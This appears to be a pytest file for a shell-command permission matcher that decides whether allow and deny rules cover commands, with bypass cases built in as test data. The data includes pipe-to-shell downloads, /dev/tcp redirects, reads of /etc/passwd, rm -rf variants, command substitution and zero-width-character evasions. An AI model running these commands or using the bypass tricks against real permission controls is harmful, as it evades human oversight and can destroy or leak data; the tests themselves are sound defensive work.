"""A rule of a shell command means one documented thing, whatever the command looks like."""

import json
from pathlib import Path
from typing import Any

import pytest

from activities.safety.bash.syntax import parse
from workflows.contracts.permissions import Decision
from workflows.core.bash_rules import covered
from workflows.core.rule_matching import covers_alone

CORPUS = Path(__file__).parents[2] / "corpora/rules.jsonl"
LINES = [json.loads(line) for line in CORPUS.read_text().splitlines()]


def matches(rule: str, command: str, *, as_allow: bool) -> bool:
    return covers_alone(rule, Decision.ALLOW if as_allow else Decision.DENY, parse(command))


def allows(rule: str, command: str) -> bool:
    return matches(f"Bash({rule})", command, as_allow=True)


def denies(rule: str, command: str) -> bool:
    return matches(f"Bash({rule})", command, as_allow=False)


@pytest.mark.parametrize("line", LINES, ids=[line["id"] for line in LINES])
def test_every_line_of_the_corpus_matches_as_it_says(line: dict[str, Any]) -> None:
    assert matches(line["rule"], line["command"], as_allow=line["as"] == "allow") is line["match"], line["why"]


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("make", "env LANG=C make"),
        ("make", "LC_ALL=C TZ=UTC make"),
        ("make", "timeout 5 nice make"),
        ("FOO=1 make", "FOO=1 make"),
        ("sudo:*", "sudo apt install x"),
        ("sudo make", "sudo make"),
        ("./gradlew build", "./gradlew build"),
        ("./scripts/*", "./scripts/build.sh --fast"),
        ("cat *", "cat $FILE"),
        ("cat *", "cat *.txt"),
        ("cat * -n", "cat a b -n"),
        ("ls", "if ls; then ls; fi"),
        ("echo:*", "for i in 1 2; do echo $i; done"),
        ("echo:*", "echo $(echo a)"),
        ('grep -n "a.\\*b" f.txt', "grep -n 'a.*b' f.txt"),
        ("a && b > c", "a && b > c"),
        ("sh:*", "sh -c 'git push'"),
    ],
)
def test_an_allow_rule_covers(rule: str, command: str) -> None:
    assert allows(rule, command)


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("* --version", "sudo node --version"),
        ("* --version", "./x --version"),
        ("* --version", "PATH=. node --version"),
        ("timeout:*", "timeout 5 sudo make"),
        ("./scripts/*", "./scripts/../evil"),
        ("echo \\*", "echo *"),
        ("echo \\*", "echo $X"),
        ("cat a", "cat $X"),
        ("git push", "git $X"),
        ("rm", "find . | xargs rm"),
        ("rm:*", "find . | xargs -I{} sh -c 'rm {}'"),
        ("bash", "bash <<< 'rm x'"),
        ("make", "X=$(id) make"),
        ("make", "LANG=$(id) make"),
        ("ls", "X=1; ls"),
        ("ls", "ls > /dev/tcp/h/1"),
        ("ls", "{ ls; } > f"),
        ("ls", "ls <> f"),
        ("ls", "ls >& f"),
        ("ls", ""),
        ("ls", "# ls"),
        ('grep -n "a.\\*b" f.txt', 'grep -n "a; touch x; b" f.txt'),
        ("a && b > c", "a && b > d"),
        ("git push:*", "git pus\u0068\u200b"),
        ("ls", "ls 'x"),
        ("echo:*", "echo `id`"),
        ("echo:*", "trap 'id' EXIT; echo"),
    ],
)
def test_an_allow_rule_does_not_cover(rule: str, command: str) -> None:
    assert not allows(rule, command)


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("rm:*", "/bin/r? a"),
        ("rm:*", "\\rm a"),
        ("rm:*", "X=1 Y=2 sudo -u me env -i timeout -s KILL 5 rm a"),
        ("rm:*", "ssh h 'rm a'"),
        ("rm:*", "bash <<'EOF'\nrm a\nEOF"),
        ("rm:*", "echo rm a | sh"),
        ("rm:*", "trap 'rm a' EXIT"),
        ("rm:*", "case x in x) rm a;; esac"),
        ("rm:*", "echo ok; { ( true && rm a ) & }"),
        ("rm -rf *", "rm -rf x"),
        ("git push:*", "git --no-pager -C x --git-dir=y push"),
        ("git push --force", "git push --force"),
        ("curl * | sh", "curl -s http://x | sudo sh"),
        ("sudo:*", "timeout 5 sudo ls"),
        ("./deploy.sh:*", "/home/dev/project/deploy.sh now"),
        ("./deploy.sh:*", "bash -c './deploy.sh'"),
        ("grep * /etc/*", "grep root /etc//passwd"),
        ("echo 'a*'", "echo abc"),
    ],
)
def test_a_deny_rule_speaks_of(rule: str, command: str) -> None:
    assert denies(rule, command)


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("rm:*", "grep 'rm a' f"),
        ("rm:*", "rmdir a"),
        ("bin/test:*", "test -f x"),
        ("git push:*", "git log push"),
        ("curl * | sh", "curl x; ls"),
        ("curl * | sh", "sh x; curl y"),
        ("ls", "ls -la"),
    ],
)
def test_a_deny_rule_does_not_speak_of(rule: str, command: str) -> None:
    assert not denies(rule, command)


def test_bare_xargs_is_covered_with_the_command_whose_arguments_a_rule_leaves_free() -> None:
    script = parse("find . -name x | xargs rm")
    assert covered("rm:*", script) == {1, 2}
    assert covered("rm", script) == frozenset()
    assert covered("rm:*", parse("find . | xargs -I{} rm {}")) == {2}


def test_of_a_command_too_long_to_be_read_a_deny_rule_takes_the_words_for_the_deed() -> None:
    long = "true;" * 4_000 + "rm -rf x"
    assert denies("rm -rf:*", long)
    assert not denies("curl:*", long)
    assert not allows("true", "true;" * 4_000)


def test_a_pattern_of_many_stars_is_matched_in_no_time() -> None:
    assert not allows("echo " + "a*" * 40 + "b", "echo " + "a" * 8_000)
